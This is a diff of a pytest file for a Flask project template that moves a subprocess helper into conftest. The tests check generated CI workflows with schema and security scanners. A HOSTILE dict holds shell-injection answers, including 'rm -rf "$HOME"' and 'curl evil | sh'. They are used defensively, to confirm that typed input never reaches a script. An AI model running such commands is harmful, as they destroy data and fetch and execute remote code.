@@ -11,11 +11,12 @@ from pathlib import Path
 import pytest
 import yaml
 
+from conftest import BIN
 from conftest import DEFAULTS
 from conftest import TEMPLATE
 from conftest import Bake
+from conftest import run
 
-BIN = Path(sys.executable).parent
 PINNED = re.compile(r"[\w.-]+/[\w./-]+@[0-9a-f]{40} # v\d+(\.\d+)*")
 CI_FILES = {".github", ".gitlab-ci.yml", ".travis.yml"}
 # Answers typed by a user, with every character a shell treats specially.
@@ -23,12 +24,6 @@ HOSTILE = {
     "author_name": "Robert'); rm -rf \"$HOME\" `id` $(id) ${PATH} \\ ; echo",
     "short_description": "Say \"hi\" && curl evil | sh; # ${GITHUB_TOKEN} $(whoami)",
 }
-
-
-def check(*args: object) -> str:
-    result = subprocess.run([str(a) for a in args], capture_output=True, text=True)
-    assert result.returncode == 0, result.stdout + result.stderr
-    return result.stdout + result.stderr
 
 
 def workflows(project: Path) -> dict[str, dict]:  # type: ignore[type-arg]
@@ -51,9 +46,9 @@ def test_only_the_chosen_ci_files_exist(bake: Bake, ci: str) -> None:
 
 def test_github_files_pass_their_schemas(bake: Bake) -> None:
     project = bake(ci="github")
-    check(BIN / "check-jsonschema", "--builtin-schema", "vendor.github-workflows",
+    run(BIN / "check-jsonschema", "--builtin-schema", "vendor.github-workflows",
           *sorted((project / ".github/workflows").glob("*.yaml")))
-    check(BIN / "check-jsonschema", "--builtin-schema", "vendor.dependabot",
+    run(BIN / "check-jsonschema", "--builtin-schema", "vendor.dependabot",
           project / ".github/dependabot.yml")
 
 
@@ -61,7 +56,7 @@ def test_github_files_pass_their_schemas(bake: Bake) -> None:
                          ids=["defaults", "hostile-text"])
 def test_zizmor_finds_nothing(bake: Bake, answers: dict[str, object]) -> None:
     project = bake(ci="github", **answers)
-    out = check(BIN / "zizmor", "--offline", "--persona", "pedantic", "--no-progress",
+    out = run(BIN / "zizmor", "--offline", "--persona", "pedantic", "--no-progress",
                 project / ".github")
     assert "No findings to report" in out
 
@@ -130,7 +125,7 @@ def test_typed_answers_never_reach_a_script(bake: Bake, ci: str) -> None:
 ])
 def test_other_ci_files_pass_their_schemas(bake: Bake, ci: str, schema: str, path: str) -> None:
     project = bake(ci=ci, python_min="3.12")
-    check(BIN / "check-jsonschema", "--builtin-schema", schema, project / path)
+    run(BIN / "check-jsonschema", "--builtin-schema", schema, project / path)
     config = yaml.safe_load((project / path).read_text("utf-8"))
     if ci == "gitlab":
         matrix = config["tests"]["parallel"]["matrix"][0]
@@ -146,8 +141,8 @@ def test_other_ci_files_pass_their_schemas(bake: Bake, ci: str, schema: str, pat
 def test_template_own_workflows_are_hardened() -> None:
     files = sorted((TEMPLATE / ".github/workflows").glob("*.yaml"))
     assert files
-    check(BIN / "check-jsonschema", "--builtin-schema", "vendor.github-workflows", *files)
-    out = check(BIN / "zizmor", "--offline", "--persona", "pedantic", "--no-progress",
+    run(BIN / "check-jsonschema", "--builtin-schema", "vendor.github-workflows", *files)
+    out = run(BIN / "zizmor", "--offline", "--persona", "pedantic", "--no-progress",
                 TEMPLATE / ".github")
     assert "No findings to report" in out
     text = "\n".join(path.read_text("utf-8") for path in files)
@@ -157,7 +152,7 @@ def test_template_own_workflows_are_hardened() -> None:
 def test_make_test_min_runs_the_lowest_flask(bake: Bake, tmp_path: Path) -> None:
     project = tmp_path / "project"
     shutil.copytree(bake(), project, ignore=shutil.ignore_patterns(".git"))
-    out = check("make", "-C", project, "test-min")
+    out = run("make", "-C", project, "test-min")
     assert "Flask 3.0.0, Werkzeug " in out
     assert " passed" in out
     pins = (project / ".venv-min/.installed.txt").read_text("utf-8").split()
@@ -167,7 +162,7 @@ def test_make_test_min_runs_the_lowest_flask(bake: Bake, tmp_path: Path) -> None
 def test_make_test_all_runs_tox_and_skips_missing_pythons(bake: Bake, tmp_path: Path) -> None:
     project = tmp_path / "project"
     shutil.copytree(bake(), project, ignore=shutil.ignore_patterns(".git"))
-    out = check("make", "-C", project, "test-all")
+    out = run("make", "-C", project, "test-all")
     envs = dict(re.findall(r"^\s+(py3\.\d+(?:-min)?): (OK|SKIP)", out, re.MULTILINE))
     supported = DEFAULTS["_python_versions"]
     assert set(envs) == {f"py{v}{s}" for v in supported for s in ("", "-min")}
